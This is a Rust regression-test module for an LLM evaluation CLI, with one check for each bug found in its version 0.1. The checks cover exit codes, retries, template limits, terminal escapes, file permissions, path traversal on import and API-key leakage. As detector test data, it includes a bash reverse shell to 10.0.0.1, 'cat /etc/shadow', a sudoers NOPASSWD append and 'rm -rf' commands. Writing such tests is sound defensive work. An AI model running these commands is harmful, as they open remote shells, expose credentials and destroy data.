//! What trying version 0.1 brought to light, one check each, as far as no other campaign is about it.

mod more;

use std::{fs, io, os::unix::fs::PermissionsExt as _, time::Duration};

use probity_testkit::{Answer, FakeServer, Rule, Script, Trouble, When};
use serde_json::Value;

use super::{
    Campaign, Shot,
    kills::outcome,
    room::{Lab, Ran, Room, walk},
};

pub(super) const CAMPAIGN: Campaign = Campaign {
    name: "findings",
    about: "what did not hold in version 0.1, a check for each that is not part of another campaign",
    kinds: &["came back"],
    short: (CHECKS.len() + more::CHECKS.len()) as u64,
    long: (CHECKS.len() + more::CHECKS.len()) as u64,
    threads: 4,
    shoot,
};

/// A room and a model, and what is wrong if something is.
struct Trial<'a> {
    room: Room<'a>,
    model: FakeServer,
    wrong: Option<String>,
}

impl Trial<'_> {
    fn expect(&mut self, holds: bool, what: impl FnOnce() -> String) {
        if !holds && self.wrong.is_none() {
            self.wrong = Some(what());
        }
    }

    /// A suite that asks the model the lines of a dataset.
    fn suite(&self, cases: &str, more: &str) -> io::Result<()> {
        let url = self.model.url();
        self.room.write("cases.jsonl", cases)?;
        self.room.write(
            "probity.toml",
            format!(
                "[backends.b]\nkind = \"openai\"\nbase_url = \"{url}/v1\"\nmodel = \"m\"\n[[runners]]\nname = \"r\"\n\
                 dataset = \"cases.jsonl\"\n{more}\n"
            ),
        )
    }

    fn run(&self, words: &[&str]) -> io::Result<Ran> {
        let all: Vec<&str> = ["run", "--porcelain"].iter().chain(words).copied().collect();
        self.room.run(&all)
    }

    fn code(&mut self, ran: &Ran, code: i32) {
        self.expect(ran.code == Some(code), || format!("{} instead of {code}", ran.tail()));
    }

    fn stored(&self) -> io::Result<Vec<Value>> {
        outcome::stored(&self.room)
    }
}

type Check = fn(&mut Trial<'_>) -> io::Result<()>;

/// Number and check.
const CHECKS: [(&str, Check); 24] = [
    ("1: a case without a criterion passes", undecided),
    ("1: a typo in a criterion is a warning", typo),
    ("2: policy hits are searched for in texts", policy_hits),
    ("4: a budget in dollars without a price does nothing", unknown_price),
    ("5: a program runner that fails leaves exit code 0", failed_program),
    ("6: repeats are made of copies", copies),
    ("7: scattered errors end a healthy run", scattered),
    ("8: `system` is not rendered", system),
    ("10: a Q&A suite has figures about shell commands", shell_figures),
    ("13: a tool call is a crash", tool_call),
    ("14: why a case failed is not told", why),
    ("15: a dead server costs 19 s", dead_server),
    ("16: the judge is a subject", judge),
    ("17: an empty shard cannot be merged", empty_shard),
    ("18: validate accepts what run refuses", validate),
    ("19: classify turns failures into passes", classify),
    ("20: detectors", detectors),
    ("22: a temperature of -1 is taken", temperature),
    ("29: a vendor's key goes elsewhere", vendors_key),
    ("31: templates without bounds", templates),
    ("32: escapes reach the terminal", escapes),
    ("37: others may read what is kept", rights),
    ("37: an import reads any file", outside),
    ("39: proxies apply to loopback, and merge blames the target", proxies),
];

fn shoot(lab: &Lab, shot: &mut Shot) -> io::Result<()> {
    let all: Vec<(&str, Check)> = CHECKS.iter().chain(&more::CHECKS).copied().collect();
    let (name, check) = *shot.in_turn(&all);
    let fails = Rule::new(When::prompt_contains("fails"), Answer::fault(Trouble::Internal));
    let calls =
        Rule::new(When::prompt_contains("tool"), Answer::call("lookup", serde_json::json!({})));
    let never = Rule::new(When::prompt_contains("never"), Answer::Hang);
    let huge = Rule::new(When::prompt_contains("huge"), Answer::text(&"x".repeat(4 << 20)));
    let reply = serde_json::json!({ "choices": [{ "message": { "role": "assistant", "content": "marked" } }] });
    let marked = Answer::json(&format!("\u{feff}{reply}"));
    let marked = Rule::new(When::prompt_contains("with a mark"), marked);
    let rules = [fails, calls, never, huge, marked];
    let script = rules.into_iter().fold(Script::default(), Script::rule);
    let model = FakeServer::bind(script, 0)?;
    let mut trial = Trial { room: Room::new(lab)?, model, wrong: None };
    check(&mut trial)?;
    if let Some(wrong) = trial.wrong {
        shot.find("came back", format!("{name}: {wrong}"));
    }
    Ok(())
}

const GATE: &str = "[runners.gates]\npass_rate = 1.0\n";

/// A case whose answer is the last word of its prompt.
fn case(id: &str, prompt: &str, expected: &str) -> String {
    format!(
        "{}\n",
        serde_json::json!({ "id": id, "prompt": prompt, "expected_response": expected })
    )
}

fn undecided(trial: &mut Trial<'_>) -> io::Result<()> {
    trial.suite("{\"id\":\"n\",\"prompt\":\"hi\"}\n", GATE)?;
    let ran = trial.run(&[])?;
    trial.code(&ran, 3);
    Ok(())
}

fn typo(trial: &mut Trial<'_>) -> io::Result<()> {
    trial.suite("{\"id\":\"t\",\"prompt\":\"hi\",\"expcted_response\":\"zzz\"}\n", GATE)?;
    let ran = trial.run(&[])?;
    trial.code(&ran, 2);
    trial.expect(ran.err.contains("expcted_response"), || ran.tail());
    Ok(())
}

fn policy_hits(trial: &mut Trial<'_>) -> io::Result<()> {
    let cases = case("word", "say policy_violation", "policy_violation")
        + &case("both", "say zebra", "other");
    trial.suite(&cases, "[[policies]]\nname = \"animals\"\nwords = [\"zebra\"]\n")?;
    trial.run(&["-o", "r.json"])?;
    let report: Value = serde_json::from_str(&trial.room.read("r.json")).unwrap_or_default();
    trial.expect(report["policy_hits"] == 1, || format!("{} hits", report["policy_hits"]));
    Ok(())
}

fn unknown_price(trial: &mut Trial<'_>) -> io::Result<()> {
    trial.suite(&case("a", "say 1", "1"), "")?;
    let ran = trial.run(&["--max-cost", "1"])?;
    trial.code(&ran, 2);
    let asked = trial.model.seen().asked;
    trial.expect(asked == 0, || format!("{asked} calls"));
    Ok(())
}

fn failed_program(trial: &mut Trial<'_>) -> io::Result<()> {
    let suite =
        "[[runners]]\nname = \"p\"\nkind = \"program\"\ncommand = [\"sh\", \"-c\", \"exit 1\"]\n";
    trial.room.write("probity.toml", suite)?;
    let ran = trial.run(&[])?;
    trial.code(&ran, 3);
    Ok(())
}

fn copies(trial: &mut Trial<'_>) -> io::Result<()> {
    trial.suite(&case("a", "say 1", "1"), "")?;
    trial.run(&["--record", "rec.jsonl"])?;
    let ran = trial.run(&["--replay", "rec.jsonl", "--repeat", "5"])?;
    trial.code(&ran, 2);
    trial.expect(ran.err.contains("repeat"), || ran.tail());
    Ok(())
}

fn scattered(trial: &mut Trial<'_>) -> io::Result<()> {
    let one = |at: u32| match at % 50 {
        49 => case(&format!("c{at}"), &format!("this fails {at}"), "x"),
        _ => case(&format!("c{at}"), &format!("say {at}"), &at.to_string()),
    };
    let cases: String = (0..200).map(one).collect();
    trial.suite(&cases, "[retry]\nbackoff_base = 0.01\n")?;
    let ran = trial.run(&["-j", "8"])?;
    trial.code(&ran, 0);
    trial.expect(ran.key("N_CASES") == Some("200"), || format!("{:?} cases", ran.key("N_CASES")));
    Ok(())
}

fn system(trial: &mut Trial<'_>) -> io::Result<()> {
    let line = "{\"id\":\"a\",\"prompt\":\"say 1\",\"system\":\"Speak {{ tongue }}\",\"prompt_vars\":{\"tongue\":\"Latin\"},\"expected_response\":\"1\"}\n";
    trial.suite(line, "")?;
    trial.run(&[])?;
    let sent: String = trial.model.seen().last.iter().map(|it| it.json().to_string()).collect();
    trial.expect(sent.contains("Speak Latin"), || sent.clone());
    Ok(())
}

fn shell_figures(trial: &mut Trial<'_>) -> io::Result<()> {
    trial.suite(&case("a", "say 1", "1"), "")?;
    trial.run(&["-o", "r.json"])?;
    let report: Value = serde_json::from_str(&trial.room.read("r.json")).unwrap_or_default();
    for key in ["safety_accuracy", "posix_compliance_rate"] {
        trial.expect(report[key].is_null(), || format!("{key}: {}", report[key]));
    }
    trial.expect(report["meta"].get("fail_fast_reason").is_some(), || {
        "no reason in `meta`".to_owned()
    });
    Ok(())
}

fn tool_call(trial: &mut Trial<'_>) -> io::Result<()> {
    trial.suite(&case("a", "use the tool", "x"), "")?;
    trial.run(&["--max-retries", "0"])?;
    let stored = trial.stored()?;
    let class =
        stored.first().map(|it| it["classification"]["primary"].clone()).unwrap_or_default();
    trial.expect(class == "fail", || format!("its class is {class}"));
    Ok(())
}

fn why(trial: &mut Trial<'_>) -> io::Result<()> {
    trial.suite(&case("a", "say blue", "green"), GATE)?;
    let ran =
        trial.room.run(&["run", "-o", "r.xml", "-o", "r.md", "-o", "r.html", "-o", "r.csv"])?;
    trial.code(&ran, 1);
    trial.expect(ran.out.contains("FAIL (exit code 1)"), || ran.out.clone());
    let shown = trial.room.run(&["show", "latest", "a"])?.out;
    for (name, text) in [("show", shown)]
        .into_iter()
        .chain(["r.xml", "r.md", "r.html", "r.csv"].map(|it| (it, trial.room.read(it))))
    {
        let is_told = text.contains("green") && text.contains("blue");
        trial.expect(is_told, || format!("{name} does not say what was expected"));
    }
    Ok(())
}

fn dead_server(trial: &mut Trial<'_>) -> io::Result<()> {
    let cases: String = (0..20).map(|at| case(&format!("c{at}"), "say 1", "1")).collect();
    trial.suite(&cases, "")?;
    let suite = trial.room.read("probity.toml").replace(&trial.model.url(), "http://127.0.0.1:1");
    trial.room.write("probity.toml", suite)?;
    let ran = trial.run(&[])?;
    trial.code(&ran, 3);
    trial.expect(ran.took < Duration::from_secs(12), || format!("{:?}", ran.took));
    trial.expect(ran.err.contains("nothing listens at"), || ran.tail());
    Ok(())
}

fn judge(trial: &mut Trial<'_>) -> io::Result<()> {
    trial.suite(&case("a", "say 1", "1"), "")?;
    let url = trial.model.url();
    let suite = trial.room.read("probity.toml")
        + &format!(
            "[backends.j]\nkind = \"openai\"\nbase_url = \"{url}/v1\"\nmodel = \"j\"\n[judge]\nbackend = \"j\"\n"
        );
    trial.room.write("probity.toml", suite)?;
    let ran = trial.run(&[])?;
    trial.expect(ran.key("N_CASES") == Some("1"), || format!("{:?} cases", ran.key("N_CASES")));
    Ok(())
}

fn empty_shard(trial: &mut Trial<'_>) -> io::Result<()> {
    trial.suite(&(case("a", "say 1", "1") + &case("b", "say 2", "2")), "")?;
    for (shard, store) in [("1/3", "1.db"), ("2/3", "2.db"), ("3/3", "3.db")] {
        trial.run(&["--shard", shard, "--store", store])?;
    }
    let ran = trial.room.run(&["merge", "1.db", "2.db", "3.db"])?;
    trial.code(&ran, 0);
    let count = trial.stored()?.len();
    trial.expect(count == 2, || format!("{count} results"));
    Ok(())
}

fn validate(trial: &mut Trial<'_>) -> io::Result<()> {
    for prompt in ["{{ x | nofilter }}", "{{ nobody.here }}"] {
        let line = serde_json::json!({ "id": "a", "prompt": prompt, "prompt_vars": { "x": 1 }, "expected_response": "1" });
        trial.suite(&format!("{line}\n"), "")?;
        let checked = trial.room.run(&["dataset", "validate", "--strict", "cases.jsonl"])?;
        let ran = trial.run(&[])?;
        trial.expect(checked.code == Some(2) && ran.code == Some(2), || {
            format!("{prompt}: validate {}, run {}", checked.ending(), ran.ending())
        });
    }
    Ok(())
}

fn classify(trial: &mut Trial<'_>) -> io::Result<()> {
    trial.suite(&(case("a", "say 1", "1") + &case("b", "say 2", "other")), "")?;
    trial.run(&["-o", "r.jsonl"])?;
    let ran = trial.room.run(&["classify", "r.jsonl", "-o", "again.jsonl"])?;
    let passes = trial.room.read("again.jsonl").matches("\"verdict\":\"pass\"").count();
    trial.expect(passes == 1, || format!("{passes} passes, {}", ran.tail()));
    Ok(())
}

fn detectors(trial: &mut Trial<'_>) -> io::Result<()> {
    for (command, is_safe) in [
        ("env - git reset --hard", false),
        ("echo / | xargs -i rm -rf", false),
        ("umount /dev/sdc1", true),
        ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", false),
        ("cat /etc/shadow", false),
        ("echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", false),
    ] {
        let ran = trial.room.run(&["check", "command", command])?;
        let said = ran.out.clone() + &ran.err;
        trial.expect(said.contains("unsafe at level") != is_safe, || format!("{command}: {said}"));
    }
    let text = "I cannot answer for others, but the capital is Paris.";
    let ran = trial.room.run(&["check", "refusal", "--text", text])?;
    trial.expect(ran.out.contains("no refusal"), || ran.out.clone());
    Ok(())
}

fn temperature(trial: &mut Trial<'_>) -> io::Result<()> {
    trial.suite(&case("a", "say 1", "1"), "")?;
    let suite =
        trial.room.read("probity.toml").replace("model = \"m\"", "model = \"m\"\ntemperature = -1");
    trial.room.write("probity.toml", suite)?;
    let ran = trial.run(&[])?;
    trial.code(&ran, 2);
    Ok(())
}

fn vendors_key(trial: &mut Trial<'_>) -> io::Result<()> {
    let host = trial.model.url().trim_start_matches("http://").to_owned();
    for url in [
        format!("http://{host}/proxy/https://api.openai.com/v1"),
        format!("http://{host}/v1?x=://api.openai.com"),
        format!("http://api.openai.com@{host}/v1"),
        format!("http://{host}/v1#https://api.openai.com"),
    ] {
        trial.suite(&case("a", "say 1", "1"), "")?;
        let suite = trial.room.read("probity.toml").replace(&format!("http://{host}/v1"), &url);
        trial.room.write("probity.toml", suite)?;
        let mut command = trial.room.command(&["run", "--porcelain", "--max-retries", "0"]);
        command.env("OPENAI_API_KEY", "sk-of-the-vendor-0123456789");
        trial.room.start(command)?.end()?;
        let seen = trial.model.seen();
        let has_key = |headers: &str| headers.contains("sk-of-the-vendor");
        let is_sent = seen.last.iter().any(|it| has_key(&format!("{:?}", it.headers)));
        let is_kept = !is_sent && seen.keys.is_empty();
        trial.expect(is_kept, || format!("{url} got the key"));
    }
    Ok(())
}

fn templates(trial: &mut Trial<'_>) -> io::Result<()> {
    let deep = format!("{{{{ {}1 }}}}", "-".repeat(7000));
    let long = "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}";
    let wide = "{{ x | indent(999999999999) }}";
    for prompt in [deep.as_str(), long, wide] {
        let line = serde_json::json!({ "id": "a", "prompt": prompt, "prompt_vars": { "x": "a\nb" }, "expected_response": "1" });
        trial.suite(&format!("{line}\n"), "")?;
        for words in [&["--dry-run"][..], &[]] {
            let ran = trial.run(words)?;
            let is_refused = ran.code == Some(2) && !ran.is_crash();
            let start: String = prompt.chars().take(30).collect();
            trial.expect(is_refused, || format!("{start}: {}", ran.tail()));
        }
    }
    Ok(())
}

fn escapes(trial: &mut Trial<'_>) -> io::Result<()> {
    let line = serde_json::json!({
        "id": "a", "prompt": "say \u{1b}[31m\u{9b}2J\u{e0041}\u{ad}\u{3164}x", "tags": ["\u{1b}]0;t\u{7}"], "expected_response": "\u{1b}[1m",
    });
    trial.suite(&format!("{line}\n"), "")?;
    let mut said = String::new();
    for words in [
        &["run"][..],
        &["show"],
        &["show", "latest", "a"],
        &["dataset", "stats", "cases.jsonl"],
        &["dataset", "lint", "cases.jsonl"],
        &["check", "command", "echo \u{1b}[31m; rm -rf / \u{9b}2J"],
        &["run", "no\u{1b}[31mfile.toml"],
    ] {
        let ran = trial.room.run(words)?;
        said.push_str(&(ran.out + &ran.err));
    }
    for hidden in ['\u{1b}', '\u{9b}', '\u{e0041}', '\u{ad}', '\u{3164}'] {
        let at = said.find(hidden);
        trial.expect(at.is_none(), || format!("{hidden:?} at {at:?} of what is shown"));
    }
    Ok(())
}

fn rights(trial: &mut Trial<'_>) -> io::Result<()> {
    trial.suite(&case("a", "say 1", "1"), "")?;
    let command = trial.room.limited("umask 000", &["run", "-q", "--cache"]);
    trial.room.start(command)?.end()?;
    let mode = |path: &str| {
        let about = fs::metadata(trial.room.path(path));
        about.map_or(0o777, |it| it.permissions().mode() & 0o777)
    };
    let found = [mode(".probity"), mode(".probity/probity.db"), mode(".probity/cache.db")];
    trial.expect(found == [0o700, 0o600, 0o600], || {
        format!("{:o} {:o} {:o}", found[0], found[1], found[2])
    });
    Ok(())
}

fn outside(trial: &mut Trial<'_>) -> io::Result<()> {
    let secret = trial.room.root().join("home/secret.txt");
    fs::write(&secret, "the secret of the home")?;
    for path in [secret.display().to_string(), "../../home/secret.txt".to_owned()] {
        let text = format!(
            "prompts: ['Say {{{{x}}}}', 'file://{path}']\nproviders: [openai:gpt-4o]\ntests:\n  - vars: {{ x: 'file://{path}' }}\n  - vars: {{ x: carried over }}\n"
        );
        trial.room.write("in/promptfooconfig.yaml", text)?;
        trial.room.run(&[
            "import",
            "in/promptfooconfig.yaml",
            "-o",
            "out",
            "--lossy",
            "--force",
        ])?;
        let mut made = String::new();
        walk(&trial.room.path("out"), &mut |path| {
            made.push_str(&fs::read_to_string(path).unwrap_or_default());
        });
        trial.expect(made.contains("carried over"), || format!("{path}: nothing was imported"));
        trial.expect(!made.contains("the secret of the home"), || format!("{path} was read"));
    }
    Ok(())
}

fn proxies(trial: &mut Trial<'_>) -> io::Result<()> {
    trial.suite(&case("a", "say 1", "1"), "")?;
    let mut command = trial.room.command(&["run", "--porcelain"]);
    command.env("HTTP_PROXY", "http://127.0.0.1:1").env("ALL_PROXY", "http://127.0.0.1:1");
    let ran = trial.room.start(command)?.end()?;
    trial.code(&ran, 0);
    let ran = trial.room.run(&["merge", "missing.db", "--store", "all.db"])?;
    trial.expect(ran.err.contains("`missing.db` cannot be merged"), || ran.tail());
    Ok(())
}
